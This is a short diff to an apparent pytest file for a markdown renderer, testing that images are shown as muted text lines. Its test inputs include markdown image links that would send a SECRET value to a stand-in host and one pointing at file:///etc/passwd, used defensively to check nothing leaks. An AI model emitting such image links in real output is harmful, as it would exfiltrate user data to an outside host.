@@ -81,7 +81,7 @@ def test_international_hosts_are_shown_encoded() -> None:
 @pytest.mark.parametrize(
     "source",
     [
-        "![secret](https://canary.invalid/?d=SECRET)",
+        "see ![secret](https://canary.invalid/?d=SECRET)",
         "![secret][a]\n\n[a]: http://canary.invalid/x",
         "![secret](file:///etc/passwd)",
         "![secret](//canary.invalid/share/x.png)",
@@ -90,7 +90,7 @@ def test_international_hosts_are_shown_encoded() -> None:
     ],
 )
 def test_T01_an_image_is_a_line_of_text(source: str) -> None:
-    (shown,) = runs(source)
+    shown = runs(source)[-1]
     assert shown.style == MUTED
     assert "secret" in shown.text
     assert "SECRET" not in shown.text
